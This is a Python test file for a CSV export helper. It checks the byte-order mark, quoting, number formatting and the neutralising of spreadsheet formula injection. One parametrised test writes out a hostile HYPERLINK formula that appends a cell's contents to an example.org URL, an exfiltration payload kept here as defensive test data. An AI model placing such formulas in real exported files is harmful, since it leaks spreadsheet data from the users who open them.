"""CSV that spreadsheets read without harm."""

import csv
import io
from decimal import Decimal

import pytest

from ui.spreadsheets import csv_text


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_excel_is_told_that_it_is_utf_8() -> None:
    assert csv_text([["模型"]]).encode() == b"\xef\xbb\xbf\xe6\xa8\xa1\xe5\x9e\x8b\r\n"


def test_cells_are_quoted_where_they_must_be() -> None:
    text = csv_text([["a", "b,c", 'say "hi"', "two\nlines", "", None]])

    assert text == '\ufeffa,"b,c","say ""hi""","two\nlines",,\r\n'
    assert read(text) == [["a", "b,c", 'say "hi"', "two\nlines", "", ""]]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_text_that_a_spreadsheet_would_run_is_only_text(begin: str) -> None:
    formula = f'{begin}HYPERLINK("http://example.org?"&A1,"ok")'

    assert read(csv_text([[formula, "=1"]])) == [[f"'{formula}", "'=1"]]


def test_numbers_stay_numbers() -> None:
    row = [-1.5, 0.1 + 0.2, 3, -7, Decimal("0.0000001"), Decimal("-1E+2"), True, False]

    assert read(csv_text([row])) == [
        ["-1.5", "0.3", "3", "-7", "0.0000001", "-100", "true", "false"]
    ]


def test_half_a_character_can_be_written() -> None:
    assert csv_text([["\ud800a"]]).encode() == "\ufeff\ufffda\r\n".encode()
